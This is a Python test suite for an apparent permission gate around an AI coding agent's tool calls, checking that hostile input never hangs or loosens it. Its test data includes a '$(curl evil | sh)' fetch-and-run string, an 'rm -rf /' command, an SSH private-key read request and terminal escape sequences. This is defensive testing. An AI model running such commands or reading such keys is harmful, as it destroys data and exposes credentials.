"""Review: hostile or broken input must never hang, crash past a boundary, or loosen."""

from __future__ import annotations

import io
import json
import os
import stat
import threading
from pathlib import Path

import msgspec
import pytest

from askgate.adapters.claude_code import HookError, parse_input
from askgate.audit import AuditLog
from askgate.events import CHANNEL_RPC_PROMPT, EventBus, request_sync
from askgate.forwarding.protocol import decode_heartbeat, decode_request, reply_from_response
from askgate.policy.config import ConfigError, parse_policy_text
from askgate.policy.model import Origin, Surface
from askgate.policy.trust import is_trusted_digest, policy_digest, trust_store_path
from askgate.prompters.base import PromptRequest, PromptState
from askgate.prompters.terminal import TerminalPrompter
from askgate.session import suggest_bash_pattern, suggest_pattern
from unprivileged import run_as_nobody

DEEP = b"[" * 100_000 + b"]" * 100_000


def _run_bounded(target, timeout: float = 5.0):  # type: ignore[no-untyped-def]
    """Run `target` on a daemon thread; fail (instead of hanging the suite) if it blocks."""
    result: list[object] = []
    errors: list[BaseException] = []

    def body() -> None:
        try:
            result.append(target())
        except BaseException as exc:  # reported to the test below
            errors.append(exc)

    thread = threading.Thread(target=body, daemon=True)
    thread.start()
    thread.join(timeout)
    assert not thread.is_alive(), "blocked without a bound"
    if errors:
        raise errors[0]
    return result[0]


# --- session patterns never widen beyond the value -----------------------------------------


@pytest.mark.parametrize("command", ["aws *", "gcloud ?", "az *", "npm run*", "git ?"])
def test_session_pattern_never_copies_a_wildcard_from_the_value(command: str) -> None:
    # A literal "*" or "?" the agent typed would become a wildcard in the approval.
    assert suggest_bash_pattern(command) is None


def test_mcp_session_pattern_refuses_wildcards_in_the_server_name() -> None:
    assert suggest_pattern(Surface.MCP, "gith?b:create") is None
    assert suggest_pattern(Surface.MCP, "github:create") == "github:*"


# --- deeply nested JSON is malformed input, not an internal error --------------------------


def test_hook_deeply_nested_input_is_a_hook_error() -> None:
    data = b'{"hook_event_name":"PreToolUse","tool_name":"Bash","cwd":"/","tool_input":{"a":'
    with pytest.raises(HookError):
        parse_input(data + DEEP + b"}}")


def test_forwarded_request_deeply_nested_is_a_decode_error() -> None:
    with pytest.raises(msgspec.DecodeError):
        decode_request(b'{"zz":' + DEEP + b"}")


def test_heartbeat_deeply_nested_is_no_heartbeat() -> None:
    assert decode_heartbeat(b'{"zz":' + DEEP + b"}") is None


def test_response_deeply_nested_is_unavailable_not_a_crash() -> None:
    reply = reply_from_response(b'{"zz":' + DEEP + b"}", expected_responder="parent")
    assert reply.state is PromptState.UNAVAILABLE and not reply.approved


# --- the review log ----------------------------------------------------------------------


def test_audit_log_fifo_does_not_hang(tmp_path) -> None:
    path = tmp_path / "review.jsonl"
    os.mkfifo(path)
    assert _run_bounded(lambda: AuditLog(str(path)).write({"a": 1})) is False


def test_audit_log_does_not_follow_a_planted_symlink(tmp_path) -> None:
    victim = tmp_path / "bashrc"
    victim.write_text("original\n")
    link = tmp_path / "review.jsonl"
    link.symlink_to(victim)
    assert AuditLog(str(link)).write({"value": "$(curl evil | sh)"}) is False
    assert victim.read_text() == "original\n"


def test_audit_log_with_lone_surrogates_is_written_not_raised(tmp_path) -> None:
    path = tmp_path / "review.jsonl"
    assert AuditLog(str(path)).write({"value": "rm \udcff", "k\ud800": 1}) is True
    record = json.loads(path.read_text())
    assert record["value"].startswith("rm ")


def test_audit_log_in_read_only_directory_reports_false() -> None:
    def check(scratch: Path) -> None:  # root ignores modes: checked as an ordinary user
        directory = scratch / "ro"
        directory.mkdir()
        directory.chmod(0o500)
        try:
            assert not os.access(directory, os.W_OK)
            assert AuditLog(str(directory / "review.jsonl")).write({"a": 1}) is False
        finally:
            directory.chmod(0o700)

    run_as_nobody(check)


# --- the trust store ---------------------------------------------------------------------


def _trust_env(tmp_path) -> dict[str, str]:
    return {"HOME": str(tmp_path), "XDG_DATA_HOME": str(tmp_path / "data")}


def _write_store(path: str, root: str, digest: str) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as handle:
        json.dump({"version": 1, "projects": {root: {"sha256": digest}}}, handle)
    os.chmod(path, 0o600)


def test_trust_store_fifo_does_not_hang(tmp_path) -> None:
    env = _trust_env(tmp_path)
    path = trust_store_path(env)
    os.makedirs(os.path.dirname(path))
    os.mkfifo(path, 0o600)
    assert _run_bounded(lambda: is_trusted_digest(str(tmp_path), "0" * 64, env)) is False


def test_trust_store_symlink_trusts_nothing(tmp_path) -> None:
    env = _trust_env(tmp_path)
    root = os.path.realpath(tmp_path)
    digest = policy_digest(b"x")
    elsewhere = str(tmp_path / "elsewhere.json")
    _write_store(elsewhere, root, digest)
    path = trust_store_path(env)
    os.makedirs(os.path.dirname(path))
    os.symlink(elsewhere, path)
    assert is_trusted_digest(root, digest, env) is False


def test_trust_store_world_writable_trusts_nothing(tmp_path) -> None:
    env = _trust_env(tmp_path)
    root = os.path.realpath(tmp_path)
    digest = policy_digest(b"x")
    path = trust_store_path(env)
    _write_store(path, root, digest)
    assert is_trusted_digest(root, digest, env) is True
    os.chmod(path, 0o666)
    assert is_trusted_digest(root, digest, env) is False
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o666


# --- infrastructure_read_paths cannot cover everything -----------------------------------


@pytest.mark.parametrize("entry", ["/", "~", "$HOME", "/home", "~/..", "/.."])
def test_infrastructure_read_paths_refuse_root_and_home(tmp_path, entry: str) -> None:
    home = tmp_path / "home" / "user"
    env = {"HOME": str(home)}
    text = f'infrastructure_read_paths = ["{entry}"]\n'
    if entry == "/home":
        env = {"HOME": "/home/user"}
    with pytest.raises(ConfigError, match="infrastructure_read_paths"):
        parse_policy_text(
            text,
            path="/p.toml",
            origin=Origin.USER,
            rank_base=100,
            trusted=True,
            base_dir=str(tmp_path),
            env=env,
        )


def test_infrastructure_read_paths_accept_a_directory_below_home(tmp_path) -> None:
    loaded = parse_policy_text(
        'infrastructure_read_paths = ["~/.claude"]\n',
        path="/p.toml",
        origin=Origin.USER,
        rank_base=100,
        trusted=True,
        base_dir=str(tmp_path),
        env={"HOME": "/home/user"},
    )
    assert loaded.infrastructure_read_paths == ("/home/user/.claude",)


# --- the terminal ----------------------------------------------------------------------------

REQUEST = PromptRequest(request_id="r", surface="bash", value="ls", message="run ls")


def test_terminal_type_ahead_never_answers_a_later_prompt() -> None:
    read_fd, write_fd = os.pipe()
    try:
        prompter = TerminalPrompter(read_fd, io.StringIO())
        os.write(write_fd, b"1\n1\n")  # one answer, plus a stray second "yes"
        assert prompter.prompt(REQUEST, 5.0).state is PromptState.APPROVED
        os.close(write_fd)
        write_fd = -1
        # The stray "1" was typed before this prompt was shown: it must not approve it.
        assert prompter.prompt(REQUEST, 5.0).state is not PromptState.APPROVED
    finally:
        os.close(read_fd)
        if write_fd >= 0:
            os.close(write_fd)


def test_terminal_escapes_control_sequences_in_hostile_text() -> None:
    read_fd, write_fd = os.pipe()
    try:
        os.write(write_fd, b"3\n")
        os.close(write_fd)
        write_fd = -1
        out = io.StringIO()
        hostile = PromptRequest(
            request_id="r",
            surface="bash",
            value="x",
            message="run \x1b[2J\x1b[1A\rharmless\x07",
            session_pattern="x *",
            session_label="Yes \x1b[31m",
        )
        TerminalPrompter(read_fd, out).prompt(hostile, 5.0)
        shown = out.getvalue()
        assert "\x1b" not in shown and "\r" not in shown and "\x07" not in shown
        assert "harmless" in shown
    finally:
        os.close(read_fd)
        if write_fd >= 0:
            os.close(write_fd)


# --- event RPC request ids -----------------------------------------------------------------


def test_request_sync_replaces_an_unanswerable_request_id() -> None:
    bus = EventBus()
    seen: list[str] = []

    def handler(data: dict) -> None:
        seen.append(data["requestId"])
        bus.emit(f"{CHANNEL_RPC_PROMPT}:reply:{data['requestId']}", {"success": True})

    bus.on(CHANNEL_RPC_PROMPT, handler)
    # A requestId the receiving gate would drop (too long) must not cost a full timeout.
    reply = request_sync(bus, CHANNEL_RPC_PROMPT, {"requestId": "x" * 600}, timeout=5.0)
    assert reply["success"] is True and len(seen[0]) <= 512


def test_concurrent_requests_with_one_request_id_get_their_own_replies() -> None:
    bus = EventBus()
    arrived = threading.Barrier(2, timeout=5)
    bodies: list[dict] = []
    sent = threading.Condition()

    def handler(data: dict) -> None:
        with sent:
            bodies.append(data)
            sent.notify_all()

    bus.on(CHANNEL_RPC_PROMPT, handler)
    replies: dict[str, dict] = {}

    def ask(name: str) -> None:
        arrived.wait()
        replies[name] = request_sync(
            bus, CHANNEL_RPC_PROMPT, {"requestId": "same", "value": name}, timeout=0.5
        )

    threads = [threading.Thread(target=ask, args=(n,)) for n in ("a", "b")]
    for thread in threads:
        thread.start()

    with sent:
        assert sent.wait_for(lambda: len(bodies) == 2, timeout=5)
        approve_a = next(b for b in bodies if b["value"] == "a")
    bus.emit(f"{CHANNEL_RPC_PROMPT}:reply:{approve_a['requestId']}", {"success": True})
    for thread in threads:
        thread.join(5)
    assert replies["a"]["success"] is True
    assert replies["b"]["success"] is False  # the human's answer to "a" never approves "b"


def test_terminal_type_ahead_on_a_real_tty_is_discarded() -> None:
    import pty

    master, slave = pty.openpty()
    try:
        prompter = TerminalPrompter(tty_path=os.ttyname(slave))
        os.write(master, b"1\n")  # typed before any question was on screen
        assert prompter.prompt(REQUEST, 0.3).state is PromptState.TIMED_OUT
    finally:
        os.close(master)
        os.close(slave)


def test_gate_ignores_an_infrastructure_root_covering_home(tmp_path) -> None:
    from askgate.gate import Gate
    from askgate.outcome import Resolution, ToolRequest
    from askgate.policy.engine import Policy

    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    policy = Policy(
        [],
        project_root=str(tmp_path / "proj"),
        infrastructure_read_paths=["/"],
        env={"HOME": str(home)},
    )
    outcome = Gate(policy).decide(
        ToolRequest(tool="Read", input={"file_path": str(home / ".ssh" / "id_rsa")}, cwd="/")
    )
    assert not outcome.allowed
    assert outcome.resolution is Resolution.CONFIRMATION_UNAVAILABLE


@pytest.mark.parametrize(
    "tool_input",
    ["command", ["command"], None, {"command": ["rm", "-rf", "/"]}, {"command": None}],
)
def test_gate_denies_non_dict_or_mistyped_input(tool_input) -> None:  # type: ignore[no-untyped-def]
    from askgate.gate import Gate
    from askgate.outcome import ToolRequest
    from askgate.policy.engine import Policy
    from askgate.policy.model import Action, Rule

    policy = Policy(
        [Rule(surface=Surface.BASH, pattern="*", action=Action.ALLOW, origin=Origin.USER, rank=1)],
        project_root="/tmp",
        env={"HOME": "/tmp"},
    )
    outcome = Gate(policy).decide(
        ToolRequest(tool="Bash", input=tool_input, cwd=["/"], agent={}, session=3)  # type: ignore[arg-type]
    )
    assert not outcome.allowed
